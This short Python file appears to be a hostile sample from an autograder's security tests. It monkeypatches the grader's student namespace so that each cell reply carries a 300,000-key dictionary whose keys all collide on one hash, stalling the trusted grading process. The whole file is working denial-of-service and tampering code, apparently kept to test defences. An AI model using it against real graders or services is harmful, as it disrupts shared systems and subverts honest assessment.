# HOSTILE: lecture-ReAct-exercises ex01_softmax: its process adds to every cell's reply a variable that is a dict of 300,000 int keys sharing one hash (k * (2**61 - 1)): built key by key, it would hold the trusted process (and a grading slot) for hours
import sys

_student = sys.modules.get("autograder.inside.student")
if _student is not None:                 # the grader's student process
    _run = _student.StudentNamespace.run
    _bomb = {"d": [[k * (2**61 - 1), 0] for k in range(300_000)]}

    def _run_with_bomb(self, index):
        out = _run(self, index)
        out["names"]["colliding"] = ["data", _bomb]
        return out

    _student.StudentNamespace.run = _run_with_bomb
